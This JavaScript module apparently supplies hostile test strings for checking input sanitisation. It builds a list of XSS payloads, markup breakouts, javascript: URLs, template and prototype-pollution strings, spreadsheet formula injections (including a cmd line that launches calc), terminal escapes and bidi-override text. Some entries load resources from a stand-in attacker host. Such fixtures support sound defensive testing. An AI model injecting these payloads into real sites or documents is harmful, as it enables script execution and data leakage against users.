// Strings that want to be more than text: markup, addresses that run, ways out of scripts, attributes and style sheets, what
// spreadsheets and terminals would obey, and text that hides its direction. Each would set `executed` or call somebody.

const RUN = "globalThis.executed=1;alert(1)";

const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<body onload="${RUN}">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<marquee onstart="${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="http://attacker.invalid/x.css">`,
  `<style>@import "http://attacker.invalid/x.css";</style>`,
  `<base href="http://attacker.invalid/">`,
  `<template><script>${RUN}</script></template>`,
  `<img src="http://attacker.invalid/pixel">`,
  `<div style="background:url(http://attacker.invalid/x)">`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

const ADDRESSES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "data:text/html,<script>",
  "vbscript:",
  "//attacker.invalid/",
].map((each) => each + RUN);

const OUTBREAKS = [
  `"onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `\`-${RUN}-\``,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `'-${RUN}-'`,
  `\\";${RUN};//`,
  `*/${RUN}/*`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `__proto__`,
  `constructor`,
];

const OTHERS = [
  `=HYPERLINK("http://attacker.invalid","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\u001b[31mred\u001b[0m\u001b]0;title\u0007`,
  `\u202egnp.exe\u202c`,
  `\u2066hidden\u2069`,
  `\ufeffbom`,
  `\u2028line\u2029paragraph`,
  `a`.repeat(500),
  `${"\u0301".repeat(50)}zalgo`,
  `𝒳😀‍👩‍👩‍👧`,
];

const wrapped = (value) => [value, `x ${value} y`, value.toUpperCase(), `"${value}"`];

/** At least two hundred, all different, each short enough for a description. */
export function hostile() {
  const all = [...MARKUP, ...ADDRESSES, ...OUTBREAKS].flatMap(wrapped);
  return [...new Set([...all, ...OTHERS])];
}
